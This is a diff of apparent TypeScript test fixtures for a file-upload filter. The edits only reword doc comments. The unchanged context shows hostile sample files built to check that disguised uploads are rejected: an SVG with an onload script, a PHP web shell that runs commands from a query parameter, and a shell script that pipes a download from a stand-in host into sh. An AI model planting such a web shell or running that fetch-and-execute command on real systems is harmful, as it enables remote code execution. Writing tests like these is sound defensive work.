@@ -1,12 +1,12 @@
 /** A file to send as one of the accepted types. */
 export interface TestFile {
-  /** What it is, as a test names it. */
+  /** Its name in a test. */
   what: string;
   filename: string;
   content: Buffer;
 }
 
-/** What each file is, and its content. */
+/** The name of each file, and its content. */
 export type Disguises = [what: string, content: Buffer][];
 
 export const latin = (text: string): Buffer => Buffer.from(text, 'latin1');
@@ -35,7 +35,7 @@ export const drawing = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)
 export const serverScript = '<?php system($_GET["c"]); ?>';
 export const shellScript = '#!/bin/sh\ncurl -s https://elsewhere.example | sh\n';
 
-/** What is no document or picture of an accepted type, under any name. */
+/** Files that are no document or picture of an accepted type, under any name. */
 export const strangers = (archive: Buffer): Disguises => [
   ['a Windows program', windowsProgram()],
   ['a program of Linux', linuxProgram()],
